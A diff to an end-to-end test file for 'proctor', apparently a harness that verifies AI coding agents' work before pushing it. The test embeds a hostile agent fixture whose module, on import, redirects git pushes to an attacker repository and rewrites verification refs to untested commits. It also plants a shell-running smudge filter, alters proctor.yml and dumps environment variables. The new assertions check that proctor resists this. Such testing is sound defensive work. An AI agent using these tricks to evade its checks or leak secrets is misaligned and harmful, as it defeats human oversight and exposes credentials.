@@ -8,7 +8,15 @@
 import { describe, it, expect, beforeAll, afterAll, afterEach } from 'vitest'
 import { execFileSync } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
-import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { startGitHubApiServer, type GitHubApiServer, type StoredJob } from '../servers/github-api.js'
@@ -55,8 +63,8 @@ console.log('agent: done, all tests pass (trust me)')
 `
 // src/add.js of the `tamper` agent: correct code, and at import time (inside the verify job's stop hook)
 // every attack on the push that issue 26 found: a pushurl to a repository of its own, a global
-// pushInsteadOf, refs/proctor/<session> moved to an untested commit; it also records every environment
-// it can read on the machine.
+// pushInsteadOf, refs/proctor/<session> moved to an untested commit, a smudge filter for proctor's own
+// checkout; it also records every environment it can read on the machine.
 const TAMPER = `import { execFileSync } from 'node:child_process'
 import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
 export const add = (a, b) => a + b
@@ -66,6 +74,10 @@ if (evil) {
   git('config', 'remote.origin.pushurl', evil)
   if (!process.env.HOME.includes('proctor-e2e-home-')) throw new Error('refusing to write a real ~/.gitconfig')
   writeFileSync(process.env.HOME + '/.gitconfig', '[url "' + evil + '"]\\n\\tpushInsteadOf = http://\\n')
+  // A smudge filter for every path, and a tracked file changed so that proctor's own clean-up rewrites it.
+  git('config', 'filter.evil.smudge', 'touch "' + process.env.HOME + '/smudge-ran"; cat')
+  writeFileSync('.git/info/attributes', '* filter=evil\\n')
+  writeFileSync('proctor.yml', readFileSync('proctor.yml', 'utf8') + '# touched by the hook\\n')
   for (const ref of git('for-each-ref', '--format=%(refname)', 'refs/proctor/').split('\\n').filter(Boolean)) {
     const commit = git('commit-tree', '-p', ref, '-m', 'untested', ref + '^{tree}')
     git('update-ref', ref, commit)
@@ -486,11 +498,15 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
 
     // An old workflow that still gives the verify job the write token: it must not use it.
     const writesBefore = writes(server).length
+    const verifyHome = tempDir('proctor-e2e-home-')
     const verify = await verifyJob(service, server, jobs, repo, {
       token: writeToken,
-      env: { E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
+      env: { HOME: verifyHome, E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
     })
     expect(verify.code, log(verify)).toBe(0)
+    // proctor put its checkout back without running the filter the hook planted in .git/config.
+    expect(existsSync(join(verifyHome, 'smudge-ran'))).toBe(false)
+    expect(readFileSync(join(verify.dir, 'proctor.yml'), 'utf8')).not.toContain('touched by the hook')
     // The attack ran (the hook imported the agent's code)...
     const dump = JSON.parse(readFileSync(tamperDump, 'utf8')) as {
       env: Record<string, string>
